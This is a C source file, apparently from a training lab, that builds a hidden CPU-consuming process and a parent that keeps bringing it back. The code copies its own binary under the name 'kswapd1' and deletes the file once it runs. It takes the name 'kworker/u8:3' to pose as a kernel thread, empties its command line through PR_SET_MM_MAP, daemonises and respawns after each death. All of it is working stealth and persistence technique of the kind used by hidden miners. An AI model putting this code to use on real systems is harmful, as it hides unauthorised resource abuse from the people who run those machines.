/* The hidden process of the story and the parent that brings it back. See burn.h for what the hidden one does.
   usage: hider -w   the parent: copies its own file beside itself, runs the copy, again half a minute after its death
   The copy removes its file, takes a name like a kernel thread's and empties its command line.
   LAB_CPU: share of one core in percent. LAB_MINUTES: how long. LAB_RESPAWN: seconds until the next try, 0 = never. */
#include "burn.h"
#include <limits.h>
#include <linux/prctl.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>

static int copy_file(const char *from, const char *to) {
  char buffer[65536];
  ssize_t got;
  int in = open(from, O_RDONLY | O_CLOEXEC);
  if (in < 0) return -1;
  unlink(to);
  int out = open(to, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
  if (out < 0) return -1;
  while ((got = read(in, buffer, sizeof buffer)) > 0)
    if (write(out, buffer, (size_t)got) != got) return -1;
  close(in);
  return close(out);
}

/* A command line of no bytes at all, as the kernel sees it. PR_SET_MM_MAP needs no capability. */
static int empty_command_line(void) {
  char text[4096];
  unsigned long long field[60] = {0};
  int fd = open("/proc/self/stat", O_RDONLY), index = 3;
  ssize_t got = read(fd, text, sizeof text - 1);
  close(fd);
  if (got <= 0) return -1;
  text[got] = 0;
  char *at = strrchr(text, ')');
  if (!at) return -1;
  for (char *part = strtok(at + 2, " "); part && index < 60; part = strtok(NULL, " ")) field[index++] = strtoull(part, NULL, 10);
  struct prctl_mm_map map = {
      .start_code = field[26], .end_code = field[27], .start_data = field[45], .end_data = field[46],
      .start_brk = field[47], .brk = (unsigned long)sbrk(0), .start_stack = field[28],
      .arg_start = field[48], .arg_end = field[48], .env_start = field[50], .env_end = field[50],
      .auxv = NULL, .auxv_size = 0, .exe_fd = (unsigned)-1};
  return prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0);
}

static int be_hidden(const char *file) {
  int share = number_from_env("LAB_CPU", 60), minutes = number_from_env("LAB_MINUTES", 240);
  unlink(file);
  prctl(PR_SET_NAME, "kworker/u8:3");
  if (empty_command_line()) return 1;
  burn(share, minutes, 443);
  return 0;
}

static pid_t start_copy(const char *self, const char *copy) {
  if (copy_file(self, copy)) return -1;
  pid_t pid = fork();
  if (pid != 0) return pid;
  execl(copy, copy, (char *)NULL);
  _exit(127);
}

int main(int argc, char **argv) {
  char self[PATH_MAX], copy[PATH_MAX];
  ssize_t length = readlink("/proc/self/exe", self, sizeof self - 1);
  if (length <= 0) return 1;
  self[length] = 0;
  if (argc < 2 || strcmp(argv[1], "-w") != 0) return be_hidden(self);

  int minutes = number_from_env("LAB_MINUTES", 240), pause = number_from_env("LAB_RESPAWN", 30);
  snprintf(copy, sizeof copy, "%.*s/kswapd1", (int)(strrchr(self, '/') - self), self);
  if (fork()) return 0;
  setsid();
  int null = open("/dev/null", O_RDWR);
  for (int fd = 0; fd < 3; fd++) dup2(null, fd);
  if (null > 2) close(null);
  for (double end = seconds_now() + minutes * 60.0; seconds_now() < end;) {
    pid_t pid = start_copy(self, copy);
    if (pid < 0 || waitpid(pid, NULL, 0) < 0 || pause <= 0) break;
    sleep((unsigned)pause);
  }
  return 0;
}
